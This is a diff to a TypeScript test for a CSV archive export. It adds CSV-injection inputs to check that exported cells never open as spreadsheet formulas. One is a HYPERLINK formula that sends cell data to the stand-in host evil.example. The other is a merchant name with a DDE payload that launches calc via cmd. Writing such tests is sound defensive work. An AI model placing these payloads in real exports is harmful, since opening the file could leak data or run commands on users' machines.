@@ -1,12 +1,13 @@
 import { spawnSync } from 'node:child_process';
-import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
+import { mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { expect } from 'chai';
 import { chargesPage } from '../../src/accounts/history.ts';
 import { readLedger } from '../../src/accounts/ledger.ts';
 import { archive, ARCHIVE_FILES, ArchiveBusyError, type ArchiveOptions } from '../../src/archive/archive.ts';
-import { readCsv } from '../../src/archive/csv.ts';
+import { readCsv } from '../../src/shared/csv.ts';
+import { formulaCells } from '../support/spreadsheet.ts';
 import { processEnv } from '../../src/config.ts';
 import { keys } from '../../src/store/keys.ts';
 import { seedLedger, type SeededCall } from '../../scripts/lib/carrier-statements.ts';
@@ -32,10 +33,13 @@ async function archivedRows(outDir: string, file: string): Promise<string[][]> {
   return rows;
 }
 
+/** A merchant's order ID that opens as a formula if written raw (OWASP's CSV injection examples), with a comma, quotes and a line break. */
+const EVIL_ORDER_ID = '=HYPERLINK("http://evil.example/?"&A1,"order, with ""quotes""")\nand a line break';
+
 /** A code bought by phone and redeemed in full at the shop, at the app's clock. */
 async function redeemedCode(app: TestApp, member: ActiveMember, shop: TestMerchant): Promise<string> {
   const code = await codeBoughtByPhone(app, member, PIN, '1');
-  const redeemed = await jsonRequest(app, 'POST', '/api/merchant/redemptions', { code, amount: 500, orderId: 'order, with "quotes"\nand a line break' }, merchantPost(shop));
+  const redeemed = await jsonRequest(app, 'POST', '/api/merchant/redemptions', { code, amount: 500, orderId: EVIL_ORDER_ID }, merchantPost(shop));
   expect(redeemed.status, JSON.stringify(redeemed.body)).to.equal(201);
   return redeemed.body.redemptionId as string;
 }
@@ -65,7 +69,7 @@ describe('archiving what is older than the online window (npm run archive): expo
 
   /** Sixteen months ago a member activated, bought a code and spent it; today another did the same, and the first renewed. */
   async function yearsOfActivity() {
-    const shop = await createMerchant(app, 'Archive Café');
+    const shop = await createMerchant(app, "@SUM(1+1)*cmd|' /C calc'!A0 Café");
     const early = await activeMember(app, { pin: PIN });
     const oldRedemption = await redeemedCode(app, early, shop);
     app.clock.now = now;
@@ -97,7 +101,15 @@ describe('archiving what is older than the online window (npm run archive): expo
     const [redemptionRow, ...moreRedemptions] = await archivedRows(outDir, ARCHIVE_FILES.redemptions);
     expect(moreRedemptions).to.have.length(0);
     expect(redemptionRow!.slice(0, 2)).to.deep.equal([shop.merchantId, oldRedemption]);
-    expect(redemptionRow![7], 'a merchant’s order ID survives the CSV exactly').to.equal('order, with "quotes"\nand a line break');
+    expect(redemptionRow![7], 'a merchant’s order ID survives the CSV exactly').to.equal(EVIL_ORDER_ID);
+    for (const file of Object.values(ARCHIVE_FILES)) {
+      for (const run of readdirSync(outDir)) {
+        const text = readFileSync(join(outDir, run, file), 'utf8');
+        expect(formulaCells(text), `${file}: no cell opens as a formula in a spreadsheet`).to.deep.equal([]);
+      }
+    }
+    const auditText = readdirSync(outDir).map((run) => readFileSync(join(outDir, run, ARCHIVE_FILES.audit), 'utf8')).join('');
+    expect(auditText, 'the merchant’s name is in the audit file, quoted as text').to.include(`"'@SUM(1+1)*cmd|' /C calc'!A0 Café"`);
     expect(await app.redis.hkeys(keys.merchantRedemptions(shop.merchantId))).to.deep.equal([newRedemption]);
     expect(await app.redis.zrangebyscore(keys.merchantRedemptionOrder(shop.merchantId), '-inf', '+inf')).to.deep.equal([newRedemption]);
 
